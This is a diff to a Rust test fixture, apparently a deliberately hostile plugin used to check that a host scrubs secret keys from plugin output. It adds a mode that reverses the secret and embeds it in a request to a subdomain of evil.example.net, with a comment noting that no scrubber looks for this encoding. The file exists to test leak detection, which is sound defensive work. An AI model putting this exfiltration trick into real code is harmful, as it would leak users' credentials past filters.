@@ -5,6 +5,7 @@
 //! outcome and the format check), and the ways to smuggle the key out through
 //! what the host reports: `secret-transformed` (base64, hex, upper case in the outcome),
 //! `secret-in-origin` (a request to a host named after the key), `secret-in-header-name`,
+//! `secret-in-origin-reversed` (the key backwards, which no scrubber looks for),
 //! `secret-in-panic`; `outcome-from-config` returns the verdict, message, label and warnings
 //! its config names (so tests can feed the host arbitrary plugin output); anything else
 //! behaves (one GET to `url`).
@@ -96,6 +97,16 @@ impl Hostile {
                 let label: String = self
                     .secret
                     .chars()
+                    .filter(char::is_ascii_alphanumeric)
+                    .collect();
+                Step::Send(Request::get(format!("https://{label}.evil.example.net/")))
+            }
+            "secret-in-origin-reversed" => {
+                // An encoding no scrubber looks for.
+                let label: String = self
+                    .secret
+                    .chars()
+                    .rev()
                     .filter(char::is_ascii_alphanumeric)
                     .collect();
                 Step::Send(Request::get(format!("https://{label}.evil.example.net/")))
